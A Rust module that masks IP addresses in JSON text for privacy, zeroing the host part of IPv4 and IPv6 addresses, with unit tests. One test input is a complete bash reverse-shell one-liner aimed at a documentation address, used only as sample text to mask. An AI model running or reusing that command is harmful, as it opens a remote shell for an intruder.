//! Masking of addresses: the part that tells one host from its neighbours becomes zero.
//!
//! Of IPv4 the last byte goes, of IPv6 all but the first 48 bits. What is left tells private from public and one network
//! from another, which is what rules ask for. Addresses of this host itself tell nobody and stay.

use serde_json::Value;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

const IPV6_SEGMENTS_KEPT: usize = 3;

/// Masks every address in a value, wherever it stands in its texts. Numbers of versions look like addresses; what stands
/// at a key that names a version stays.
pub(crate) fn mask(value: &mut Value) {
    match value {
        Value::String(text) => {
            if let Some(masked) = masked_text(text) {
                *text = masked;
            }
        }
        Value::Array(items) => items.iter_mut().for_each(mask),
        Value::Object(members) => {
            let is_version = |key: &str| key.to_ascii_lowercase().contains("version");
            members.iter_mut().filter(|(key, _)| !is_version(key)).for_each(|(_, member)| mask(member));
        }
        _ => {}
    }
}

/// The text with its addresses masked; `None` where there are none.
fn masked_text(text: &str) -> Option<String> {
    let is_part = |c: char| c.is_ascii_hexdigit() || matches!(c, '.' | ':');
    let mut masked = String::with_capacity(text.len());
    let mut at = 0;
    while let Some(start) = text[at..].find(is_part).map(|found| at + found) {
        let end = text[start..].find(|c| !is_part(c)).map_or(text.len(), |found| start + found);
        let before = text[..start].chars().next_back();
        let after = text[end..].chars().next();
        // Letters beside it make it a part of a word.
        let stands_alone = ![before, after].into_iter().flatten().any(|c| c.is_alphanumeric() || c == '_');
        masked.push_str(&text[at..start]);
        match masked_run(&text[start..end]).filter(|_| stands_alone) {
            Some(run) => masked.push_str(&run),
            None => masked.push_str(&text[start..end]),
        }
        at = end;
    }
    masked.push_str(&text[at..]);
    (masked != text).then_some(masked)
}

/// A run of the characters of addresses: an address, or one with a port behind it, or with a dot that ends a sentence.
fn masked_run(run: &str) -> Option<String> {
    let body = run.trim_end_matches(['.', ':']);
    let ending = &run[body.len()..];
    if let Ok(address) = body.parse::<IpAddr>() {
        return Some(format!("{}{ending}", masked_address(address)));
    }
    let (address, port) = body.split_once(':')?;
    let address = address.parse::<Ipv4Addr>().ok()?;
    port.parse::<u16>().ok()?;
    Some(format!("{}:{port}{ending}", masked_address(address.into())))
}

fn masked_address(address: IpAddr) -> IpAddr {
    if address.is_loopback() || address.is_unspecified() {
        return address;
    }
    match address {
        IpAddr::V4(address) => {
            let [a, b, c, _] = address.octets();
            Ipv4Addr::new(a, b, c, 0).into()
        }
        IpAddr::V6(address) => {
            if let Some(mapped) = address.to_ipv4_mapped() {
                let [a, b, c, _] = mapped.octets();
                return Ipv4Addr::new(a, b, c, 0).to_ipv6_mapped().into();
            }
            let mut segments = address.segments();
            segments[IPV6_SEGMENTS_KEPT..].fill(0);
            Ipv6Addr::from(segments).into()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn addresses_are_masked_wherever_they_stand() {
        for (text, wanted) in [
            ("192.0.2.77", "192.0.2.0"),
            ("192.0.2.77:443", "192.0.2.0:443"),
            ("192.0.2.77/32", "192.0.2.0/32"),
            ("2001:db8:1:2::7", "2001:db8:1::"),
            ("[2001:db8:1:2::7]:443", "[2001:db8:1::]:443"),
            ("::ffff:192.0.2.77", "::ffff:192.0.2.0"),
            ("ssh root@192.0.2.77, then 198.51.100.3.", "ssh root@192.0.2.0, then 198.51.100.0."),
            ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "bash -i >& /dev/tcp/203.0.113.0/4444 0>&1"),
        ] {
            assert_eq!(masked_text(text).as_deref(), Some(wanted), "{text}");
        }
    }

    #[test]
    fn what_is_no_address_of_another_host_stays() {
        for text in [
            "",
            "127.0.0.1",
            "0.0.0.0",
            "::1",
            "::",
            "10:20:30",
            "aa:bb:cc:dd:ee:ff",
            "1.2.3",
            "v1.2.3.4x",
            "300.1.1.1",
            "lib_1.2.3.4",
            "caf\u{e9} 12",
            "deadbeef",
        ] {
            assert_eq!(masked_text(text), None, "{text}");
        }
    }

    #[test]
    fn versions_stay() {
        let mut value = json!({"Version": "1.2.3.4", "KernelVersion": "5.10.0.9", "Remote": ["192.0.2.7"], "n": 5});
        mask(&mut value);
        assert_eq!(value, json!({"Version": "1.2.3.4", "KernelVersion": "5.10.0.9", "Remote": ["192.0.2.0"], "n": 5}));
    }
}
